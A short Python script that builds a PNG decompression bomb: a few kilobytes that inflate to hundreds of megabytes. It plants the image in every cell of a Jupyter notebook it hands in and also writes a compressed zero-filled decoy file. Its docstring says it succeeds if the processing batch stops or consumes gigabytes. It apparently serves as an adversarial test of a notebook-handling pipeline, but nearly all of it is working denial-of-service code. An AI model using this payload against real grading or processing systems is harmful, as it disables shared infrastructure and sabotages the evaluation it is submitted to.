"""Attaches a picture of a few kilobytes that unpacks to a gigabyte.

Succeeds if the batch stops, or takes gigabytes.
"""

import base64
import json
import struct
import zlib


def hand_in(folder, notebook, known):
    rows = zlib.compressobj(9)
    data = b"".join(rows.compress(bytes(2**20)) for _ in range(256)) + rows.flush()

    def chunk(name, body):
        return (
            struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        )

    size = struct.pack(">IIBBBBB", 16_384, 16_384, 8, 0, 0, 0, 0)
    picture = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", data)
    text = base64.b64encode(picture + chunk(b"IEND", b"")).decode()
    output = {"output_type": "display_data", "metadata": {}, "data": {"image/png": text}}
    for number, cell in enumerate(notebook["cells"]):
        if cell["cell_type"] == "code":
            cell["outputs"] = [output]
        else:
            cell["attachments"] = {f"{number}.png": {"image/png": text}}
    (folder / "more.ipynb.gz").write_bytes(zlib.compress(bytes(2**24)))
    path = folder / f"{known['TOPIC']}.ipynb"
    path.write_text(json.dumps(notebook))
